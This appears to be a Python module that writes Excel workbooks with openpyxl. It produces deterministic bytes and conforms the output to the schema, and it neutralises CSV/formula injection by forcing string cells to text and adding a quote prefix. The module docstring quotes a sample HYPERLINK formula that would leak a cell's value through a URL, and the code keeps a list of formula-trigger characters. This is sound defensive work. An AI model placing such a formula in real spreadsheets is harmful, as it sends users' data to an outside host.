"""Excel workbooks the program writes: text stays text, and the same content gives the same bytes.

Text read from other people's workbooks (a commune's `=HYPERLINK("http://…?leak="&B2,"Xem")`) must
never become a live formula in a workbook sent upward. openpyxl turns any string starting with `=`
into a formula; here every string cell is typed as a string and marked with Excel's quote prefix
(the `'` a clerk types), so Excel shows it as text and keeps it text when the cell is edited
(OWASP, CSV injection). Zip members and `docProps/core.xml` carry the document's own time, not
the clock's, like the DOCX.

openpyxl's package is then put as Excel itself saves one, so that a schema validator (the Open XML
SDK's rules) finds nothing in it: a font's properties in the schema's order (openpyxl writes the
colour before the size), and text in a shared-strings part rather than inline in every cell (which
Excel would move there on the user's first save, rewriting every sheet).
"""

from __future__ import annotations

import functools
import io
import re
import sys
import tempfile
import zipfile
from collections.abc import Iterator
from datetime import datetime
from typing import BinaryIO

from .package import SPILL_AFTER, Deflater, Entry, deflate, whole_runs, write_zip, zip_bytes

_FORMULA_LIKE = ("=", "+", "-", "@", "\t", "\r", "\n")
_MODIFIED = re.compile(rb"(<dcterms:modified[^>]*>)[^<]*(</dcterms:modified>)")
_SURROGATES = re.compile("[\ud800-\udfff]")
_CREATED = re.compile(rb"(<dcterms:created[^>]*>)[^<]*(</dcterms:created>)")
_FONT = re.compile(rb"<font>(.*?)</font>", re.S)
_FONT_PROPERTY = re.compile(rb"<(\w+)[^>]*/>")
FONT_ORDER = (b"b", b"i", b"strike", b"condense", b"extend", b"outline", b"shadow", b"u", b"vertAlign", b"sz",
              b"color", b"name", b"family", b"charset", b"scheme")
"""CT_Font's children as the Open XML SDK orders them (ECMA-376 Part 1, 18.8.22)."""
_FONT_RANK = {name: rank for rank, name in enumerate(FONT_ORDER)}
_INLINE_STRING = re.compile(rb'<c([^>]*?) t="inlineStr"([^>]*)><is>(.*?)</is></c>', re.S)
MAIN_NS = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHARED_STRINGS_TYPE = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
SHARED_STRINGS_REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"


def load_openpyxl() -> None:
    """openpyxl, loaded without numpy when numpy is not loaded yet.

    openpyxl imports numpy, when it is installed, only to count numpy's number types as numbers; the
    program gives it Python's own. numpy cost the roll-up 12 MB of its 55 MB peak (and 40 ms).
    """
    if "openpyxl" in sys.modules or "numpy" in sys.modules:
        return
    sys.modules["numpy"] = None  # type: ignore[assignment]   # `import numpy` raises ImportError
    try:
        import openpyxl  # noqa: F401
    finally:
        del sys.modules["numpy"]


def row_of(ws, values: list) -> list:
    """The cells of one row, every string written as text, never as a formula; not yet in `ws`.

    The workbooks are written streaming (openpyxl's write-only mode: memory does not grow with the
    rows), so a row is styled first and then `ws.append`ed.
    """
    return [cell_of(ws, value) for value in values]


def cell_of(ws, value):
    """One cell of `row_of`."""
    from openpyxl.cell.cell import Cell

    cell = Cell(ws, row=1, column=1, value=_storable(value) if isinstance(value, str) else value)
    if isinstance(cell.value, str) and cell.value:
        set_text(cell, cell.value)
    return cell


class StyleCopier:
    """Applies a font, alignment, fill or number format to many cells at the price of one.

    openpyxl looks every assigned style up among the workbook's styles (hashing and comparing it),
    which cost seconds over a thousand units' columns. Here a style is assigned once, to a first
    cell, and its index is copied to the others, as openpyxl's own worksheet copy copies indexes.
    A cell's own quote prefix (set_text) is kept.
    """

    _FIELDS = {"font": "fontId", "alignment": "alignmentId", "fill": "fillId", "number_format": "numFmtId"}

    def __init__(self, **styles):
        self.styles = styles
        self.first = None

    def apply(self, cells) -> None:
        for cell in cells:
            self.apply_one(cell)

    def apply_one(self, cell) -> None:
        from openpyxl.styles.cell_style import StyleArray

        if self.first is None:
            for name, style in self.styles.items():
                setattr(cell, name, style)
            self.first = cell
            return
        if cell._style is None:  # a cell never styled has no style array yet
            cell._style = StyleArray()
        for name in self.styles:
            field = self._FIELDS[name]
            setattr(cell._style, field, getattr(self.first._style, field))


def _storable(text: str) -> str:
    """Without the characters XML (and so openpyxl) refuses, and without lone surrogates."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return _SURROGATES.sub("", ILLEGAL_CHARACTERS_RE.sub("", text))


def set_text(cell, text: str) -> None:
    cell.value = text
    cell.data_type = "s"
    if text.startswith(_FORMULA_LIKE):
        cell.quotePrefix = True


def workbook_bytes(wb, stamp: datetime) -> bytes:
    """The workbook as a zip whose bytes depend only on its content and `stamp`.

    Each member is conformed and deflated a stretch of rows at a time (`_conformed_entries`): a
    roll-up's sheets grow with its units, and only their compressed bytes are held whole.
    """
    return zip_bytes(_conformed_package(wb, stamp), stamp)


def write_workbook(wb, stamp: datetime, out: BinaryIO) -> None:
    """`workbook_bytes` written to `out`, its sheets' deflated bytes waiting in temporary files: a
    roll-up's workbook, as large as its units, is never held whole, not even compressed."""
    write_zip(_conformed_package(wb, stamp, spill_after=SPILL_AFTER), stamp, out)


def _conformed_package(wb, stamp: datetime, spill_after: int | None = None) -> list[Entry]:
    wb.properties.created = wb.properties.modified = stamp
    fixed = stamp.strftime("%Y-%m-%dT%H:%M:%SZ").encode()
    with tempfile.TemporaryFile() as package:
        wb.save(package)
        package.seek(0)
        with zipfile.ZipFile(package) as zf:
            return _conformed_entries(zf, fixed, spill_after)


def _conformed_entries(zf: zipfile.ZipFile, fixed: bytes, spill_after: int | None = None) -> list[Entry]:
    """`conformed` member by member, deflated as they go: the same entries as deflating its result.

    Sheets are read and rewritten up to their last complete row at a time; an inline string never
    spans rows, so the shared strings get the same indexes as over the whole part.
    """
    strings = _SharedStrings()
    entries: list[Entry | tuple[str, bytes]] = []
    for info in zf.infolist():
        name = info.filename
        if name.startswith("xl/worksheets/") and name.endswith(".xml"):
            entries.append(_deflated_rows(name, zf, strings, spill_after))
            continue
        data = zf.read(info)
        if name == "xl/styles.xml":
            data = _FONT.sub(_font_in_order, data)
        elif name == "docProps/core.xml":  # openpyxl stamps `modified` with the clock at save
            data = _CREATED.sub(rb"\g<1>" + fixed + rb"\g<2>", _MODIFIED.sub(rb"\g<1>" + fixed + rb"\g<2>", data))
        entries.append((name, data) if name in _TOLD_OF_SHARED_STRINGS else deflate(name, data))
    done = [entry if isinstance(entry, Entry) else
            deflate(entry[0], _with_shared_strings(*entry) if strings.items else entry[1]) for entry in entries]
    return [*done, strings.entry(spill_after)] if strings.items else done


_TOLD_OF_SHARED_STRINGS = ("[Content_Types].xml", "xl/_rels/workbook.xml.rels")
"""The members `_with_shared_strings` changes: small, held until every sheet has been read."""
_ROWS_READ = 2**18
"""Bytes of a sheet read at a time: a few times this is what conforming a sheet costs, whatever its size."""


def _deflated_rows(name: str, zf: zipfile.ZipFile, strings: _SharedStrings, spill_after: int | None) -> Entry:
    """A sheet with its inline strings shared, deflated as read: never held whole."""
    out = Deflater(name, spill_after=spill_after)
    with zf.open(name) as part:
        for rows in whole_runs(iter(functools.partial(part.read, _ROWS_READ), b""), b"</row>"):
            out.write(_INLINE_STRING.sub(strings.share, rows))
    return out.entry()


def conformed_bytes(package: bytes) -> bytes:
    """An openpyxl package as Excel saves one (see the module's docstring), members in their order."""
    with zipfile.ZipFile(io.BytesIO(package)) as zf:
        times = {info.filename: info.date_time for info in zf.infolist()}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in conformed(_members(package)):
            out.writestr(zipfile.ZipInfo(name, date_time=times.get(name, times["[Content_Types].xml"])), data,
                         compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def _members(package: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(package)) as zf:
        return [(info.filename, zf.read(info)) for info in zf.infolist()]


def conformed(members: list[tuple[str, bytes]]) -> list[tuple[str, bytes]]:
    """The package's members with fonts in schema order and every inline string shared."""
    strings = _SharedStrings()
    out = []
    for name, data in members:
        if name == "xl/styles.xml":
            data = _FONT.sub(_font_in_order, data)
        elif name.startswith("xl/worksheets/") and name.endswith(".xml"):
            data = _INLINE_STRING.sub(strings.share, data)
        out.append((name, data))
    if not strings.items:
        return out
    out = [(name, _with_shared_strings(name, data)) for name, data in out]
    return [*out, ("xl/sharedStrings.xml", strings.part())]


def _font_in_order(match: re.Match) -> bytes:
    inner = match.group(1)
    properties = list(_FONT_PROPERTY.finditer(inner))
    if b"".join(p.group(0) for p in properties) != inner:
        return match.group(0)  # not the flat list of empty elements openpyxl writes: left as it is
    properties.sort(key=lambda p: _FONT_RANK.get(p.group(1), len(_FONT_RANK)))
    return b"<font>" + b"".join(p.group(0) for p in properties) + b"</font>"


class _SharedStrings:
    """The shared-strings table built while the sheets' inline strings are replaced by its indexes."""

    def __init__(self):
        self.items: dict[bytes, int] = {}
        self.uses = 0

    def share(self, match: re.Match) -> bytes:
        text = match.group(3)
        index = self.items.setdefault(text, len(self.items))
        self.uses += 1
        return b'<c%s t="s"%s><v>%d</v></c>' % (match.group(1), match.group(2), index)

    def part(self) -> bytes:
        return b"".join(self.pieces())

    def pieces(self) -> Iterator[bytes]:
        yield (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="%s" count="%d" uniqueCount="%d">'
               % (MAIN_NS, self.uses, len(self.items)))
        yield from (b"<si>%s</si>" % text for text in self.items)
        yield b"</sst>"

    def entry(self, spill_after: int | None) -> Entry:
        """The part deflated as made (the same bytes as `deflate(part())`)."""
        out = Deflater("xl/sharedStrings.xml", spill_after=spill_after)
        for piece in self.pieces():
            out.write(piece)
        return out.entry()


def _with_shared_strings(name: str, data: bytes) -> bytes:
    """[Content_Types].xml and the workbook's relationships, told of the shared-strings part."""
    if name == "[Content_Types].xml":
        return data.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="%s"/></Types>'
                            % SHARED_STRINGS_TYPE)
    if name == "xl/_rels/workbook.xml.rels":
        used = {int(n) for n in re.findall(rb'Id="rId(\d+)"', data)}
        return data.replace(b"</Relationships>", b'<Relationship Type="%s" Target="sharedStrings.xml" Id="rId%d"/>'
                            b"</Relationships>" % (SHARED_STRINGS_REL, max(used, default=0) + 1))
    return data
